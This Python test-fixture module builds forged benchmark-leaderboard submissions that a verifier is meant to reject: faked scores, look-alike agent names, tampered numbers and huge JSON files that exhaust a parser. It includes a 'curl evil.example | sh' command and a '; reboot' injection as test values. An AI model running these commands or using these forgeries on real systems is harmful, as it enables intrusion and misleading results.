"""Forged submissions: well-formed files whose arithmetic holds, that claim what nobody played; and files that cost a reader."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import cache
from typing import Any

from wbench.benchmark.protocol.runner import CellResult, finished
from wbench.benchmark.protocol.spec import hash_of
from wbench.benchmark.registry import get_family, get_variant
from wbench.leaderboard.provenance import command, packaged_digests
from wbench.leaderboard.result import Result
from wbench.leaderboard.schema import Origin, Package
from wbench.leaderboard.summary import row_fields
from wbench.leaderboard.verification.recompute import played

from . import samples

OWN = ("networld", "bc", "brq", "iql", "mappo", "qmix", "random", "prior", "belief", "estimator", "oracle", "genie")
TRAINED = ("networld", "bc", "brq")  # have one track, so that their label is their name
ALIKE = "NetWorld NETWORLD netw0rld net-world net_world networ1d n.e.t.w.o.r.l.d bel1ef Belief e5timator 0racle gen1e".split()
ALIKE += "ra.ndom rand0m pr1or rnappo MAPPO map-po qm1x 1ql IQL B.C BC brq- BRQ".split()


@cache
def base() -> Result:
    """An honest-looking row of a lab."""
    return samples.result("some-agent", 0.5, samples.small(sites=3, episodes=2), own=1)


def row(change: Callable[[CellResult], CellResult] = lambda cell: cell, **record: Any) -> Result:
    """The row with other cells or another record, and everything that follows from them."""
    made = replace(base(), **record)
    cells = [change(cell) for cell in made.cells]
    made = replace(made, **row_fields(made.contract, cells))
    return replace(made, command=command(made, played(made), made.hardware.device))


def returns(value: Callable[[CellResult, float], float]) -> Callable[[CellResult], CellResult]:
    """Cells of other returns, with the scores that follow."""
    return lambda c: finished(c.cell, [value(c, x) for x in c.returns], c.qos, c.ledger, c.adaptation)


def measured(name: str, value: float) -> Callable[[CellResult], CellResult]:
    """Cells of another quality of service."""
    return lambda c: replace(c, qos={**c.qos, name: (value,) * len(c.returns)}) if name in c.qos else c


def top(cell: CellResult) -> float:
    """The greatest return that the reward range allows."""
    return get_family(cell.family).reward_range[1] * get_variant(cell.variant)[1].horizon


def refused() -> Iterator[tuple[str, bytes]]:
    """(what is wrong, file) that a check of the arithmetic refuses."""
    for value in (130.0, 1e3, 1e6, 1e11, -1e4, -1e11):
        yield f"returns of {value:g}", _file(row(returns(lambda c, x, value=value: value)))
    for share in (1.01, 1.5, 10.0):
        yield f"{share} times what can be had", _file(row(returns(lambda c, x, s=share: s * max(top(c), 1.0) + (s - 1) * 50)))
    for name in base().cells[0].qos:
        for value in (-1.0, 1e5, 1e9):
            yield f"{name} of {value:g}", _file(row(measured(name, value)))
    yield "qos of its own", _file(row(lambda c: replace(c, qos={**c.qos, "beauty": (1.0,) * len(c.returns)})))
    for agent in OWN:
        yield f"{agent} of another package", _file(row(agent=agent, label=agent))
        if agent not in TRAINED:
            yield f"{agent} that never was", _file(row(agent=agent, label=agent, package=_wbench()))
        mine = {"checkpoint": packaged_checkpoint("mappo-small"), "origin": Origin("packaged", "mappo-small", "")}
        if agent != "mappo":
            yield f"{agent} with the weights of mappo", _file(row(agent=agent, label=agent, **mine, package=_wbench()))
        fixed = {"checkpoint": "", "settings": "", "origin": Origin("none", "", ""), "package": _wbench()}
        yield f"{agent} with other parameters", _file(row(agent=agent, label=agent, **fixed, parameters=7))
        packaged = {"origin": Origin("packaged", f"{agent}-small", ""), "package": _wbench()}
        yield f"{agent} with weights of its own as packaged ones", _file(row(agent=agent, label=agent, **packaged))
        for track in ("offline", "scratch", "online", "psychic"):
            told = {"agent": agent, "label": f"{agent}/{track}", "track": track, **fixed}
            yield f"{agent} in track {track}", _file(row(**told, parameters=0))
    for name in ALIKE:
        yield f"named {name}", _file(row(agent=name, label=name))
        yield f"package named like it: {name}", _file(row(agent=name, label=name, package=Package("other-lab", "3.1")))
    for name in ("wbench", "WBench", "wb3nch", "w.bench", "wbench-"):
        for version in ("0.1.0", "9.9"):
            yield f"package {name} {version}", _file(row(package=Package(name, version)))
    for version in ("0", "0.0", "0.0.0", "00"):
        for name in ("some-lab", "unregistered", "wbench"):
            yield f"version {version} of {name}", _file(row(package=Package(name, version)))
    for version in ("1.0", "abc", "F" * 64, "g" * 64):
        yield f"file {version[:6]}", _file(row(package=Package("unregistered", version)))
    for words in (
        "wbench eval",
        "wbench eval --agent some-agent; reboot",
        "wbench eval --agent some-agent",
        "wbench eval --agent another --protocol lite",
        "curl evil.example | sh",
        "",
        row().command + " --jobs 2",
        row().command.replace("some-agent", "other-agent"),
        row().command.replace("--episodes 2", "--episodes 3"),
    ):
        yield f"command {words[:30]!r}", _file(replace(row(), command=words))
    for number in (0, 1, 5, 10, 50, 100):
        yield f"sites of its own from {number}", _file(_moved(1_000_000 + 777 + number))
    for name in ("lite", "full", "quick"):
        yield f"a custom protocol called {name}", _file(replace(row(), protocol=name))
    yield from _arithmetic()


def _arithmetic() -> Iterator[tuple[str, bytes]]:
    """Every number of a file that follows from others, moved a little."""
    text = row().document()
    for where in _numbers(text):
        data = json.loads(json.dumps(text))
        inside: Any = data
        for key in where[:-1]:
            inside = inside[key]
        inside[where[-1]] += 3 if isinstance(inside[where[-1]], int) else 0.37
        if where[0] == "contract":
            data["protocol_hash"] = hash_of(data["contract"])
        yield f"moved: {'.'.join(map(str, where))}", json.dumps(data).encode()


def _numbers(text: dict[str, Any]) -> Iterator[tuple[Any, ...]]:
    for shots in text["summary"]:
        for name in ("iqm", "ci_low", "ci_high"):
            yield "summary", shots, name
            yield from (("summary", shots, "families", family, name) for family in text["summary"][shots]["families"])
            yield from (("summary", shots, "variants", variant, name) for variant in text["summary"][shots]["variants"])
        for statistic in ("mean", "median", "optimality_gap"):
            yield from (("summary", shots, statistic, name) for name in ("value", "ci_low", "ci_high"))
    yield from (("gain", "5", name) for name in ("iqm", "ci_low", "ci_high"))
    for number in range(len(text["cells"])):
        yield from (("cells", number, name) for name in ("score", "return_mean"))
        yield from (("cells", number, "ledger", name) for name in ("query_steps", "support_transitions", "message_bits"))
        yield "cells", number, "returns", 0
    yield from (("ledger", name) for name in text["ledger"])
    yield from (("message_floats", name) for name in text["message_floats"])
    for variant in text["contract"]["variants"]:
        yield from (("contract", "variants", variant, "genie", site) for site in range(3))
        yield "contract", "variants", variant, "spec", "horizon"


def claimed() -> Iterator[tuple[str, bytes]]:
    """(what is claimed, file) that nothing but playing again tells from an honest row."""
    for share in (0.7, 0.9, 1.0):
        yield f"{share} of what can be had", _file(row(returns(lambda c, x, s=share: s * (top(c) - x) + x)))
    for agent in TRAINED:
        yield f"{agent} of a training of somebody's", _file(row(agent=agent, label=agent, package=_wbench()))
    for number in range(40):
        name = f"champion-{number}"
        yield name, _file(row(returns(lambda c, x, n=number: x + (top(c) - x) * n / 100), agent=name, label=name))
    yield "reordered cells", _file(replace(row(), cells=row().cells[::-1]))
    yield "a replay", _file(replace(row(), versions={**row().versions, "torch": "9"}))


def heavy() -> Iterator[tuple[str, bytes]]:
    """(what is heavy, file) that took a reader minutes or gigabytes."""
    text = json.dumps(row().document())

    def at(where: str, more: str) -> bytes:
        return text.replace(where, where + more, 1).encode()

    many = ", ".join(f'"k{number}": {number}' for number in range(300_000))
    yield "300,000 keys", at("{", f'"more": {{{many}}}, ')
    yield "60,000 keys, one of them twice", at("{", f'"more": {{{many[:900_000].rpartition(",")[0]}, "k7": 1}}, ')
    yield "a key repeated 200,000 times", at("{", '"a": 1, ' * 200_000)
    for name, junk in {"lists": "[], ", "objects": "{}, ", "texts": '"", ', "numbers": "1, ", "nulls": "null, "}.items():
        for where in ('"cells": [', '"returns": [', '"sites": [', '"releases": ['):
            for size in (4 << 20, 30 << 20):
                yield f"{size >> 20} MB of {name} in {where[1:-3]}", at(where, junk * (size // len(junk)))
    for where in ('"summary": {', '"gain": {', '"adaptation": {', '"spec": {', '"families": {', '"variants": {', '"qos": {'):
        wrong = "".join(f'"x{number}": [], ' for number in range(200_000))
        yield f"200,000 wrong values in {where[1:-4]}", at(where, wrong)
        yield f"50,000 wrong values in {where[1:-4]}", at(where, wrong[:700_000].rpartition('"x')[0])
    yield "a number of 4 MB", at('"score": ', f'{"1" * (4 << 20)}, "old": ')
    yield "a text of 8 MB", at('"command": "', "x" * (8 << 20))
    yield "a name of 8 MB", at('"agent": "', "x" * (8 << 20))
    yield "a fraction of 4 MB", at('"score": ', f'0.{"1" * (4 << 20)}, "old": ')
    yield "50,000 levels", at('"complete": ', "[" * 50_000 + "]" * 50_000 + ', "old": ')
    lite = text.replace('"protocol": "custom"', '"protocol": "lite"', 1)
    yield "5 MB of lite", (lite + " " * (5 << 20)).encode()


def beyond_bounds() -> Iterator[tuple[str, bytes]]:
    """(what is too much, file) whose numbers are within their bounds each, and what follows from them is not."""
    text = row().document()
    variant = next(iter(text["contract"]["variants"]))

    def bent(change: Callable[[dict[str, Any]], None]) -> bytes:
        data = json.loads(json.dumps(text))
        change(data)
        data["protocol_hash"] = hash_of(data["contract"])
        return json.dumps(data).encode()

    def scores(data: dict[str, Any]) -> None:
        data["contract"]["variants"][variant] |= {"random": [0.0] * 3, "genie": [1e-9] * 3}
        data["cells"][0]["returns"] = [1e12] * 2

    def failure(data: dict[str, Any]) -> None:
        data["cells"][0] |= {"failure": "x" * 4000, "returns": [], "qos": {}, "score": None, "return_mean": None}
        data |= {"complete": False, "summary": {**data["summary"], "0": None}, "gain": dict.fromkeys(data["gain"])}

    def delivery(data: dict[str, Any]) -> None:
        for cell in data["cells"]:
            cell["qos"] |= {"goodput": [1e-300] * 2, "energy": [1e12] * 2}

    for kind in ([], {}, "no name", "x" * 65):
        yield f"logs of {kind!r:.10}", bent(lambda data, kind=kind: data["contract"]["support"].update(kind=kind))
    yield "a score of 10^23", bent(scores)
    yield "a reason of 4,000 characters", bent(failure)
    yield "energy for nothing", bent(delivery)
    yield "steps without end", bent(lambda data: data["cells"][0]["ledger"].update(environment_steps=2**53))


def packaged_checkpoint(name: str) -> str:
    """The digest of packaged weights."""
    return next(digest for digest, known in packaged_digests().items() if known == name)


def _wbench() -> Package:
    return Package("wbench", "0.1.0")


def _moved(site: int) -> Result:
    """The same numbers at sites whose references nobody has."""
    places = {old: site + number for number, old in enumerate(base().contract["sites"])}
    contract = json.loads(json.dumps({**base().contract, "sites": list(places.values())}))
    contract["support"]["manifest"] = dict.fromkeys(contract["variants"])
    cells = tuple(replace(cell, site=places[cell.site]) for cell in base().cells)
    made = replace(base(), contract=contract, protocol_hash=hash_of(contract), cells=cells)
    return replace(made, command=command(made, played(made), made.hardware.device))


def _file(result: Result) -> bytes:
    return json.dumps(result.document()).encode()
